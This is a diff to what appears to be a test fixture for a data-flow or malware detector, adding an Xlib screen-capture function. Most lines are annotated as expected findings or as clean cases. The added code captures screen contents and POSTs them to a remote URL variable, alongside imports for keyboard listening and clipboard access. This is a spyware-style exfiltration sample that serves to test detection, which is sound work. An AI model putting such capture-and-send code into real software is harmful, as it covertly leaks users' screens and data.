@@ -20,6 +20,7 @@ import sounddevice
 import speech_recognition
 import win32clipboard
 import win32gui
+import Xlib.display
 from PIL import Image, ImageGrab
 from pynput.keyboard import GlobalHotKeys, Listener
 
@@ -309,3 +310,11 @@ def place():
 def window_compared():
     requests.post(U, data={"none": win32gui.GetWindowText(0) == ""})  #~ ok
     requests.post(U, data={"none": geocoder.ip("me") == ()})  #~ ok
+
+
+def x_screen():
+    screen = Xlib.display.Display().screen()
+    image = screen.root.get_image(0, 0, 9, 9, 2, 0xFFFFFFFF)  #~ source(SCREEN) f90
+    requests.post(U, data=image.data)  #~ sink(egress.http) f90, finding(screen-capture, traced) f90
+    Xlib.display.Display().screen().root.get_image(0, 0, 9, 9, 2, 0)  #~ ok
+    requests.post(U, data=screen.root.get_geometry().width)  #~ ok
